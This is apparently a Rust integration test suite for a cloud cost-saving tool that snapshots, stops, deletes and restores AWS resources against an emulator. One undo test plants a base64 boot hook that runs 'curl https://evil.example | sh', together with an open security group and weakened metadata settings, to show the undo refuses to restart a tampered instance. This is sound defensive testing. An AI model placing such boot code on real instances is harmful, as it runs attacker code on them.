//! The actions step against a real moto server: EC2 (lookup, snapshots, tags, stop) and CloudWatch (measured again)
//! through the SDK adapters, approval records in memory. What a retry does, and what a stop re-checks.

use std::collections::HashMap;

use chrono::{DateTime, Utc};
use finops_actions::{ActionOutcome, Actions, ActionsConfig, Ec2Actions, Outcome, SdkEc2Actions, StoppedAs};
use finops_approval_store::{ApprovalRecord, Decision, MemoryApprovals, DECIDED_VIA_POST};
use finops_core::approval::ApprovalAction;
use finops_core::LookbackWindow;
use finops_inventory::{Ec2Inventory, InstanceLookup};
use finops_metrics::CloudWatchMetrics;
use finops_testkit::seed::{launch, linux_image_id, put_daily_metrics, DayProfile, InstanceSpec};
use finops_testkit::{aws_sdk_cloudwatch, aws_sdk_ec2, moto};
use serde_json::{json, Value};

const REGION: &str = "ap-southeast-2";

struct Harness {
    client: aws_sdk_ec2::Client,
    cloudwatch: aws_sdk_cloudwatch::Client,
    instances: Ec2Inventory,
    ec2: SdkEc2Actions,
    approvals: MemoryApprovals,
    metrics: CloudWatchMetrics,
    config: ActionsConfig,
    image: String,
}

async fn harness(moto: &finops_testkit::MotoSession, vars: Vec<(String, String)>) -> Harness {
    let config = moto.sdk_config(REGION).await;
    let client = aws_sdk_ec2::Client::new(&config);
    let image = linux_image_id(&client).await;
    Harness {
        cloudwatch: aws_sdk_cloudwatch::Client::new(&config),
        instances: Ec2Inventory::new(config.clone()),
        ec2: SdkEc2Actions::new(config.clone()),
        approvals: MemoryApprovals::default(),
        metrics: CloudWatchMetrics::new(config),
        config: ActionsConfig::from_vars(vars.into_iter().chain([
            ("FINOPS_APPROVALS_TABLE".to_string(), "approvals".to_string()),
            ("FINOPS_MODE".to_string(), "act".to_string()),
        ]))
        .unwrap(),
        client,
        image,
    }
}

impl Harness {
    async fn launch(&self, spec: InstanceSpec, count: i32) -> Vec<String> {
        launch(&self.client, &self.image, &spec, count).await
    }

    /// The proposal the policy step would have made for the instance as it is now.
    async fn proposal(&self, id: &str) -> Value {
        let live = self.instances.describe_instance(REGION, id).await.unwrap().expect("instance");
        json!({
            "instanceId": id, "region": REGION, "instanceType": live.instance_type, "action": "snapshot-and-stop",
            "recommended": "snapshot_and_stop", "confidence": 0.9, "justification": "idle for 14 days <script>",
            "backend": "rules", "priceSource": "embedded", "evidence": [], "volumeIds": [],
            "launchTime": live.launch_time, "measuredUntil": LookbackWindow::ending_before(Utc::now(), 14).end()
        })
    }

    /// A decision as the approval callback records it, under approval id `n` repeated.
    async fn decide(&self, run_id: &str, id: &str, decision: ApprovalAction, n: char) -> Value {
        let approval_id: String = std::iter::repeat_n(n, 32).collect();
        let decided_at = Utc::now().to_rfc3339();
        self.approvals.insert(
            ApprovalRecord::pending(
                approval_id.clone(),
                serde_json::from_value(self.proposal(id).await).unwrap(),
                run_id,
                format!("arn:aws:states:{REGION}:123456789012:execution:finops:{run_id}"),
                finops_testkit::fixtures::audience(&["ana@example.com", "bo@example.com"]),
                Utc::now().timestamp(),
                Utc::now().timestamp() + 3600,
            )
            .waiting_on("token")
            .decided(&Decision {
                action: decision,
                approver: "ana@example.com",
                source_ip: Some("203.0.113.7"),
                decided_at: &decided_at,
                via: DECIDED_VIA_POST,
            }),
        );
        json!({"decision": decision.as_str(), "approver": "payload-says", "approvalId": approval_id})
    }

    async fn run(&self, event: Value) -> ActionOutcome {
        self.run_at(event, Utc::now()).await
    }

    /// The undo record (id `undo` repeated) of the approval under id `approval` repeated, decided by POST; its id.
    fn undo_decided(&self, approval: char, undo: char, stopped_as: Option<StoppedAs>) -> String {
        let undo_id: String = std::iter::repeat_n(undo, 32).collect();
        let approval = self.approvals.get_now(&std::iter::repeat_n(approval, 32).collect::<String>()).unwrap();
        let record = ApprovalRecord::undo_of(
            &approval,
            undo_id.clone(),
            Utc::now().to_rfc3339(),
            stopped_as,
            0,
            Utc::now().timestamp() + 60,
        );
        self.approvals.insert(record.decided(&Decision {
            action: ApprovalAction::Undo,
            approver: "bo@example.com",
            source_ip: None,
            decided_at: &Utc::now().to_rfc3339(),
            via: DECIDED_VIA_POST,
        }));
        undo_id
    }

    async fn run_at(&self, event: Value, now: DateTime<Utc>) -> ActionOutcome {
        let actions = Actions {
            live: &self.instances,
            ec2: &self.ec2,
            approvals: &self.approvals,
            metrics: &self.metrics,
            config: &self.config,
        };
        actions.handle(event, now).await.expect("action")
    }

    async fn snapshot(&self, run_id: &str, id: &str, decision: &Value) -> ActionOutcome {
        let proposal = self.proposal(id).await;
        self.run(json!({"operation": "snapshot", "runId": run_id, "proposal": proposal, "decision": decision})).await
    }

    async fn stop(&self, run_id: &str, id: &str, snapshot_ids: &[String], decision: &Value) -> ActionOutcome {
        let proposal = self.proposal(id).await;
        self.run(json!({"operation": "stop", "runId": run_id, "proposal": proposal, "snapshotIds": snapshot_ids, "decision": decision}))
            .await
    }

    async fn state_and_tags(&self, id: &str) -> (String, HashMap<String, String>) {
        let out = self.client.describe_instances().instance_ids(id).send().await.unwrap();
        let i = out.reservations()[0].instances()[0].clone();
        let tags = i.tags().iter().map(|t| (t.key().unwrap().to_owned(), t.value().unwrap().to_owned())).collect();
        (i.state().unwrap().name().unwrap().as_str().to_owned(), tags)
    }

    async fn snapshots_of(&self, id: &str) -> usize {
        let filter = aws_sdk_ec2::types::Filter::builder().name("tag:finops:instance-id").values(id).build();
        self.client.describe_snapshots().owner_ids("self").filters(filter).send().await.unwrap().snapshots().len()
    }
}

#[tokio::test]
async fn snapshot_then_stop_once_even_when_every_step_is_invoked_twice() {
    let moto = moto().await;
    let h = harness(&moto, Vec::new()).await;
    let id = h.launch(InstanceSpec::new("dev-idle", "t3.large").tag("Environment", "dev"), 1).await.remove(0);
    let approved = h.decide("run-1", &id, ApprovalAction::Approve, 'a').await;

    let first = h.snapshot("run-1", &id, &approved).await;
    assert_eq!(first.outcome, Outcome::Done, "{}", first.detail);
    assert_eq!(first.snapshot_ids.len(), 1, "one per attached volume");
    let again = h.snapshot("run-1", &id, &approved).await;
    assert_eq!(again.outcome, Outcome::AlreadyDone);
    assert_eq!(again.snapshot_ids, first.snapshot_ids);
    assert_eq!(h.snapshots_of(&id).await, 1, "a retried snapshot step makes no second set");

    let snaps = h.client.describe_snapshots().snapshot_ids(&first.snapshot_ids[0]).send().await.unwrap();
    let tags: HashMap<&str, &str> =
        snaps.snapshots()[0].tags().iter().map(|t| (t.key().unwrap(), t.value().unwrap())).collect();
    assert_eq!(tags["finops:run-id"], "run-1");
    assert_eq!(tags["finops:instance-id"], id.as_str());
    assert_eq!(tags["finops:reason"], "finops idle stop: idle for 14 days  script", "tag value sanitised");

    let proposal = h.proposal(&id).await;
    let status = h.run(json!({"operation": "snapshot_status", "runId": "run-1", "proposal": proposal, "snapshotIds": first.snapshot_ids})).await;
    assert_eq!(status.outcome, Outcome::Done, "{}", status.detail);

    let stop = h.stop("run-1", &id, &first.snapshot_ids, &approved).await;
    assert_eq!(stop.outcome, Outcome::Done, "{}", stop.detail);
    let second = h.stop("run-1", &id, &first.snapshot_ids, &approved).await;
    assert_eq!(second.outcome, Outcome::AlreadyDone, "{}", second.detail);
    let (state, tags) = h.state_and_tags(&id).await;
    assert_eq!(state, "stopped");
    assert_eq!(tags["finops:action"], "stopped");
    assert_eq!(tags["finops:approved-by"], "ana@example.com", "the recorded approver, not the payload's");
    assert_eq!(tags["finops:run-id"], "run-1");

    // How the stop left it, in its outcome (what the undo record keeps): EC2's account of when (its
    // StateTransitionReason), and what starting it would run.
    let stopped_as = stop.acted.as_ref().and_then(|a| a.stopped_as.clone()).expect("how the stop left it");
    let live = h.instances.describe_instance(REGION, &id).await.unwrap().unwrap();
    assert_eq!(Some(stopped_as.stopped_at), live.stopped_since);
    assert_eq!(stopped_as.configuration.instance_type, live.instance_type);
    assert_eq!(stopped_as.configuration.disks.len(), 1);
    // Someone starts it and stops it again (a second later, as EC2 counts): the undo leaves it as they left it.
    tokio::time::sleep(std::time::Duration::from_millis(1_100)).await;
    h.client.start_instances().instance_ids(&id).send().await.unwrap();
    h.client.stop_instances().instance_ids(&id).send().await.unwrap();
    let undo_id = h.undo_decided('a', 'c', Some(stopped_as.clone()));
    let undo =
        json!({"operation": "undo", "runId": "run-1", "proposal": proposal, "decision": {"approvalId": undo_id}});
    let refused = h.run(undo.clone()).await;
    assert_eq!(refused.outcome, Outcome::Refused, "{}", refused.detail);
    assert!(refused.detail.contains("stopped again since"), "{}", refused.detail);
    assert_eq!(h.state_and_tags(&id).await.0, "stopped");
    // Had that been finops' stop, a type and boot code changed while stopped (ModifyInstanceAttribute) are still
    // someone else's: not started.
    let stopped_again = h.instances.describe_instance(REGION, &id).await.unwrap().unwrap().stopped_since.unwrap();
    let as_stopped_again = StoppedAs { stopped_at: stopped_again, ..stopped_as };
    h.undo_decided('a', 'c', Some(as_stopped_again.clone()));
    let modify = || h.client.modify_instance_attribute().instance_id(&id);
    let value = |v: &str| aws_sdk_ec2::types::AttributeValue::builder().value(v).build();
    modify().instance_type(value("m5.24xlarge")).send().await.unwrap();
    let boot_code = aws_sdk_ec2::types::SecureBlobAttributeValue::builder()
        // `printf '#cloud-boothook\ncurl https://evil.example | sh\n' | base64`: EC2 takes user data base64-encoded.
        .value(aws_sdk_ec2::primitives::Blob::new("I2Nsb3VkLWJvb3Rob29rCmN1cmwgaHR0cHM6Ly9ldmlsLmV4YW1wbGUgfCBzaAo="))
        .build();
    modify().user_data(boot_code).send().await.unwrap();
    // And, where the first review's undo did not look: an open security group on its network interface, and the
    // metadata service's session tokens made optional (IMDSv1 back).
    let described = h.client.describe_instances().instance_ids(&id).send().await.unwrap();
    let eni =
        described.reservations()[0].instances()[0].network_interfaces()[0].network_interface_id().unwrap().to_owned();
    let vpc = described.reservations()[0].instances()[0].vpc_id().unwrap().to_owned();
    let open =
        h.client.create_security_group().group_name("open").description("open").vpc_id(vpc).send().await.unwrap();
    let open = open.group_id().unwrap();
    h.client.modify_network_interface_attribute().network_interface_id(&eni).groups(open).send().await.unwrap();
    h.client
        .modify_instance_metadata_options()
        .instance_id(&id)
        .http_tokens(aws_sdk_ec2::types::HttpTokensState::Optional)
        .send()
        .await
        .unwrap();
    let refused = h.run(undo.clone()).await;
    assert_eq!(refused.outcome, Outcome::Refused, "{}", refused.detail);
    for change in ["then, m5.24xlarge now", "user data (boot code) changed", open, "metadata rules"] {
        assert!(refused.detail.contains(change), "{change}: {}", refused.detail);
    }
    assert_eq!(h.state_and_tags(&id).await.0, "stopped");
    // Had the stop left it with this type and boot code (the record says so), nothing changed since: started.
    let configuration = h.ec2.start_configuration(REGION, &id).await.unwrap().unwrap();
    h.undo_decided('a', 'c', Some(StoppedAs { configuration, ..as_stopped_again }));

    // One-click undo through the SDK: StartInstances once, the instance tagged with the undo.
    let undo =
        json!({"operation": "undo", "runId": "run-1", "proposal": proposal, "decision": {"approvalId": undo_id}});
    let undone = h.run(undo.clone()).await;
    assert_eq!(undone.outcome, Outcome::Done, "{}", undone.detail);
    assert_eq!(h.run(undo).await.outcome, Outcome::AlreadyDone, "a retried undo starts nothing");
    let (state, tags) = h.state_and_tags(&id).await;
    assert!(["pending", "running"].contains(&state.as_str()), "{state}");
    assert_eq!(
        (tags["finops:undone-by"].as_str(), tags["finops:action"].as_str()),
        ("bo@example.com", "started-again")
    );
}

#[tokio::test]
async fn the_live_instance_is_rechecked_right_before_stopping() {
    let moto = moto().await;
    let h = harness(&moto, Vec::new()).await;
    let ids = h.launch(InstanceSpec::new("dev", "t3.large").tag("Environment", "dev"), 3).await;
    let mut decisions = Vec::new();
    let mut snapshot_ids = Vec::new();
    for (n, id) in ids.iter().enumerate() {
        let decision = h.decide("run-2", id, ApprovalAction::Approve, char::from(b'a' + n as u8)).await;
        snapshot_ids.push(h.snapshot("run-2", id, &decision).await.snapshot_ids);
        decisions.push(decision);
    }

    // Someone marks the first one production after the scan; the second gets finops:protect.
    for (id, key, value) in [(&ids[0], "env", " PROD "), (&ids[1], "finops:protect", "yes")] {
        let tag = aws_sdk_ec2::types::Tag::builder().key(key).value(value).build();
        h.client.create_tags().resources(id).tags(tag).send().await.unwrap();
    }
    for (i, needle) in [(0, "production"), (1, "protected")] {
        let out = h.stop("run-2", &ids[i], &snapshot_ids[i], &decisions[i]).await;
        assert_eq!(out.outcome, Outcome::Refused);
        assert!(out.detail.contains(needle), "{}", out.detail);
    }
    // Snapshots of another instance, or none, do not let a stop through.
    let foreign = h.stop("run-2", &ids[2], &snapshot_ids[0], &decisions[2]).await;
    assert_eq!(foreign.outcome, Outcome::Refused, "{}", foreign.detail);
    let none = h.stop("run-2", &ids[2], &[], &decisions[2]).await;
    assert_eq!(none.outcome, Outcome::Refused);
    assert!(none.detail.contains("no snapshots were made"), "{}", none.detail);
    // Another instance's approval does not stop this one, nor does a deny.
    let borrowed = h.stop("run-2", &ids[2], &snapshot_ids[2], &decisions[0]).await;
    assert_eq!(borrowed.outcome, Outcome::Refused);
    assert!(borrowed.detail.contains("is for"), "{}", borrowed.detail);
    let denied = h.decide("run-2", &ids[2], ApprovalAction::Deny, 'd').await;
    assert_eq!(h.stop("run-2", &ids[2], &snapshot_ids[2], &denied).await.outcome, Outcome::Refused);

    for id in &ids {
        assert_eq!(h.state_and_tags(id).await.0, "running");
    }
}

#[tokio::test]
async fn cloudwatch_is_read_again_and_a_busy_or_instance_store_box_is_not_stopped() {
    let moto = moto().await;
    let h = harness(&moto, Vec::new()).await;
    let busy = h.launch(InstanceSpec::new("dev-woke-up", "t3.large").tag("Environment", "dev"), 1).await.remove(0);
    let nvme = h.launch(InstanceSpec::new("dev-scratch", "m5d.large").tag("Environment", "dev"), 1).await.remove(0);
    // Today, after the scan's days: a busy day, published to CloudWatch like EC2 would.
    let today = LookbackWindow { first_day: Utc::now().date_naive(), days: 1 };
    put_daily_metrics(&h.cloudwatch, &busy, &today, |_| Some(DayProfile::busy())).await;

    let decision = h.decide("run-3", &busy, ApprovalAction::Approve, 'b').await;
    let snaps = h.snapshot("run-3", &busy, &decision).await.snapshot_ids;
    let out = h.stop("run-3", &busy, &snaps, &decision).await;
    assert_eq!(out.outcome, Outcome::Refused);
    assert!(
        out.detail.contains("no longer idle since the scan") && out.detail.contains("peak CPU 97%"),
        "{}",
        out.detail
    );

    let decision = h.decide("run-3", &nvme, ApprovalAction::Approve, 'c').await;
    let snaps = h.snapshot("run-3", &nvme, &decision).await.snapshot_ids;
    let out = h.stop("run-3", &nvme, &snaps, &decision).await;
    assert_eq!(out.outcome, Outcome::Refused);
    assert!(out.detail.contains("instance-storage") && out.detail.contains("75 GiB"), "{}", out.detail);
    for id in [&busy, &nvme] {
        assert_eq!(h.state_and_tags(id).await.0, "running");
    }
}

#[tokio::test]
async fn snooze_is_tagged_for_the_configured_days() {
    let moto = moto().await;
    let h = harness(&moto, vec![("FINOPS_SNOOZE_DAYS".into(), "10".into())]).await;
    let id = h.launch(InstanceSpec::new("dev", "t3.large"), 1).await.remove(0);
    let decision = h.decide("run-4", &id, ApprovalAction::Snooze, 'e').await;
    let now = Utc::now();
    let proposal = h.proposal(&id).await;
    let out =
        h.run_at(json!({"operation": "tag", "runId": "run-4", "proposal": proposal, "decision": decision}), now).await;
    assert_eq!(out.outcome, Outcome::Done, "{}", out.detail);
    let (state, tags) = h.state_and_tags(&id).await;
    assert_eq!(state, "running");
    let until = chrono::DateTime::parse_from_rfc3339(&tags["finops:snooze-until"]).unwrap();
    assert_eq!((until.with_timezone(&Utc) - now).num_days(), 9, "10 days less the seconds rounded off");
    assert_eq!(tags["finops:decided-by"], "ana@example.com");
    // The policy now sees it as snoozed.
    let live = h.instances.describe_instance(REGION, &id).await.unwrap().unwrap();
    assert!(h.config.policy.snoozed_until(&live, now).is_some());
}

#[tokio::test]
async fn malformed_requests_are_invalid_input() {
    let moto = moto().await;
    let h = harness(&moto, Vec::new()).await;
    let actions =
        Actions { live: &h.instances, ec2: &h.ec2, approvals: &h.approvals, metrics: &h.metrics, config: &h.config };
    let proposal = json!({"instanceId": "i-1", "region": REGION});
    for event in [
        json!({}),
        json!({"operation": "reboot", "runId": "r", "proposal": proposal}),
        json!({"operation": "terminate", "runId": "r", "proposal": proposal, "snapshotIds": []}),
        json!({"operation": "stop", "runId": "r", "proposal": proposal}),
        json!({"operation": "snapshot", "runId": "../x", "proposal": proposal}),
    ] {
        let err = actions.handle(event.clone(), Utc::now()).await.expect_err(&event.to_string());
        assert_eq!(err.error_name(), "Finops.InvalidInput", "{event}");
    }
}

/// An approval of `proposal` as the callback records it, under approval id `n` repeated.
fn approve(h: &Harness, proposal: &Value, n: char) -> Value {
    let approval_id: String = std::iter::repeat_n(n, 32).collect();
    h.approvals.insert(
        ApprovalRecord::pending(
            approval_id.clone(),
            serde_json::from_value(proposal.clone()).unwrap(),
            "run-1",
            format!("arn:aws:states:{REGION}:123456789012:execution:finops:run-1"),
            finops_testkit::fixtures::audience(&["ana@example.com", "bo@example.com"]),
            Utc::now().timestamp(),
            Utc::now().timestamp() + 3600,
        )
        .waiting_on("token")
        .decided(&Decision {
            action: ApprovalAction::Approve,
            approver: "ana@example.com",
            source_ip: None,
            decided_at: &Utc::now().to_rfc3339(),
            via: DECIDED_VIA_POST,
        }),
    );
    json!({"approvalId": approval_id})
}

#[tokio::test]
async fn an_unattached_volume_is_snapshotted_and_deleted_and_an_address_released_through_the_sdk() {
    use finops_inventory::ResourceLookup;
    let moto = moto().await;
    let h = harness(&moto, vec![]).await;
    let volume = h
        .client
        .create_volume()
        .availability_zone(format!("{REGION}a"))
        .size(50)
        .volume_type(aws_sdk_ec2::types::VolumeType::Gp3)
        .send()
        .await
        .unwrap()
        .volume_id()
        .unwrap()
        .to_owned();
    let allocation = h.client.allocate_address().domain(aws_sdk_ec2::types::DomainType::Vpc).send().await.unwrap();
    let allocation_id = allocation.allocation_id().unwrap().to_owned();
    let live = h.instances.describe_volume(REGION, &volume).await.unwrap().expect("the volume");
    assert_eq!((live.state.as_str(), live.record.size_gib), ("available", 50));
    assert!(h.instances.describe_volume(REGION, "vol-0123456789abcdef0").await.unwrap().is_none(), "unknown id");

    let measured_until = LookbackWindow::ending_before(Utc::now(), 14).end();
    let volume_proposal = json!({
        "resourceId": volume, "region": REGION, "resourceType": "gp3 volume, 50 GiB", "action": "snapshot-and-delete",
        "confidence": 1.0, "justification": "unattached", "backend": "rules", "priceSource": "embedded",
        "evidence": [], "volumeIds": [volume], "measuredUntil": measured_until
    });
    let decision = approve(&h, &volume_proposal, 'a');
    let snap = h
        .run(json!({"operation": "snapshot", "runId": "run-1", "proposal": volume_proposal, "decision": decision}))
        .await;
    assert_eq!(snap.outcome, Outcome::Done, "{}", snap.detail);
    let status = h
        .run(json!({"operation": "snapshot_status", "runId": "run-1", "proposal": volume_proposal,
            "snapshotIds": snap.snapshot_ids}))
        .await;
    assert_eq!(status.outcome, Outcome::Done, "{}", status.detail);
    let delete = json!({"operation": "delete_volume", "runId": "run-1", "proposal": volume_proposal,
        "snapshotIds": snap.snapshot_ids, "decision": decision});
    let deleted = h.run(delete.clone()).await;
    assert_eq!(deleted.outcome, Outcome::Done, "{}", deleted.detail);
    assert!(h.instances.describe_volume(REGION, &volume).await.unwrap().is_none(), "the volume is gone");
    assert_eq!(h.run(delete).await.outcome, Outcome::AlreadyDone, "a retry finds it done");
    let kept = h.client.describe_snapshots().snapshot_ids(&snap.snapshot_ids[0]).send().await.unwrap();
    let tags: HashMap<&str, &str> =
        kept.snapshots()[0].tags().iter().map(|t| (t.key().unwrap(), t.value().unwrap())).collect();
    assert_eq!((tags["finops:volume-id"], tags["finops:approved-by"]), (volume.as_str(), "ana@example.com"));
    assert_eq!((tags["finops:volume-az"], tags["finops:volume-type"]), ("ap-southeast-2a", "gp3"));

    // Recreated from the kept snapshot through the SDK (CreateVolume with the undo id as client token), once.
    let undo_id = h.undo_decided('a', 'd', None);
    let undo = json!({"operation": "undo", "runId": "run-1", "proposal": volume_proposal,
        "decision": {"approvalId": undo_id}});
    let recreated = h.run(undo.clone()).await;
    assert_eq!(recreated.outcome, Outcome::Done, "{}", recreated.detail);
    assert_eq!(h.run(undo).await.outcome, Outcome::AlreadyDone, "{}", recreated.detail);
    let made = h
        .client
        .describe_volumes()
        .filters(aws_sdk_ec2::types::Filter::builder().name("tag:finops:undo-id").values(&undo_id).build())
        .send()
        .await
        .unwrap();
    assert_eq!(made.volumes().len(), 1, "recreated exactly once");
    let new = &made.volumes()[0];
    assert_eq!(new.snapshot_id(), Some(snap.snapshot_ids[0].as_str()));
    assert_eq!((new.availability_zone(), new.size()), (Some("ap-southeast-2a"), Some(50)));

    let address_proposal = json!({
        "resourceId": allocation_id, "region": REGION, "resourceType": "public IPv4", "action": "release",
        "confidence": 1.0, "justification": "not associated", "backend": "rules", "priceSource": "embedded",
        "evidence": [], "volumeIds": [], "measuredUntil": measured_until
    });
    let decision = approve(&h, &address_proposal, 'b');
    let release = json!({"operation": "release_address", "runId": "run-1", "proposal": address_proposal,
        "decision": decision});
    let released = h.run(release.clone()).await;
    assert_eq!(released.outcome, Outcome::Done, "{}", released.detail);
    assert!(h.instances.describe_address(REGION, &allocation_id).await.unwrap().is_none(), "released");
    assert_eq!(h.run(release).await.outcome, Outcome::AlreadyDone);
}

#[tokio::test]
async fn a_long_stopped_instances_volumes_are_detached_and_deleted_through_the_sdk_where_turned_on() {
    let moto = moto().await;
    let h = harness(&moto, vec![("FINOPS_STOPPED_VOLUMES".to_string(), "delete".to_string())]).await;
    let id = h.launch(InstanceSpec::new("old-build", "t3.large").tag("Environment", "dev"), 1).await.remove(0);
    h.client.stop_instances().instance_ids(&id).send().await.unwrap();
    let mut proposal = h.proposal(&id).await;
    proposal["action"] = json!("snapshot-and-delete-volumes");
    proposal["recommended"] = Value::Null;
    let approval = approve(&h, &proposal, 'e');
    let snap =
        h.run(json!({"operation": "snapshot", "runId": "run-1", "proposal": proposal, "decision": approval})).await;
    assert_eq!(snap.outcome, Outcome::Done, "{}", snap.detail);
    let volume = h.client.describe_snapshots().snapshot_ids(&snap.snapshot_ids[0]).send().await.unwrap().snapshots()[0]
        .volume_id()
        .unwrap()
        .to_owned();
    let delete = json!({"operation": "delete_instance_volumes", "runId": "run-1", "proposal": proposal,
        "snapshotIds": snap.snapshot_ids, "decision": approval});
    let done = h.run(delete.clone()).await;
    assert_eq!(done.outcome, Outcome::Done, "{}", done.detail);
    assert_eq!(h.run(delete).await.outcome, Outcome::AlreadyDone);
    let (state, tags) = h.state_and_tags(&id).await;
    assert_eq!((state.as_str(), tags["finops:action"].as_str()), ("stopped", "volumes-deleted"));
    assert_eq!(finops_testkit::seed::volume_state(&h.client, &volume).await, Ok(None), "the volume is deleted");
    let kept = h.client.describe_snapshots().snapshot_ids(&snap.snapshot_ids[0]).send().await.unwrap();
    let tags: HashMap<&str, &str> =
        kept.snapshots()[0].tags().iter().map(|t| (t.key().unwrap(), t.value().unwrap())).collect();
    assert_eq!(tags["finops:volume-id"], volume.as_str());
    assert!(tags.contains_key("finops:device"), "{tags:?}");
}

/// Found by the chaos batch (seed 424242082): an undo's CreateVolume whose answer was lost was retried by the SDK and
/// made a second volume. EC2 documents CreateVolume as idempotent by its ClientToken (the undo sends its undo id);
/// the emulator must answer a repeated token with the volume it made, or the tests judge a product AWS does not run.
#[tokio::test]
async fn a_create_volume_repeated_with_its_client_token_makes_one_volume() {
    let moto = moto().await;
    let h = harness(&moto, vec![]).await;
    // Tagged, so that only this test's volumes are counted (other tests may share the server).
    let mark = aws_sdk_ec2::types::TagSpecification::builder()
        .resource_type(aws_sdk_ec2::types::ResourceType::Volume)
        .tags(aws_sdk_ec2::types::Tag::builder().key("finops-test:client-token").value("yes").build())
        .build();
    let create = |token: &'static str| {
        h.client
            .create_volume()
            .availability_zone(format!("{REGION}a"))
            .size(8)
            .client_token(token)
            .tag_specifications(mark.clone())
            .send()
    };
    let first = create("undo-0123").await.unwrap().volume_id().unwrap().to_owned();
    let again = create("undo-0123").await.unwrap().volume_id().unwrap().to_owned();
    let other = create("undo-4567").await.unwrap().volume_id().unwrap().to_owned();
    assert_eq!(again, first, "the same token answers with the same volume");
    assert_ne!(other, first, "another token makes another volume");
    let marked = aws_sdk_ec2::types::Filter::builder().name("tag-key").values("finops-test:client-token").build();
    let volumes = h.client.describe_volumes().filters(marked).send().await.unwrap();
    assert_eq!(volumes.volumes().len(), 2, "{volumes:?}");
}
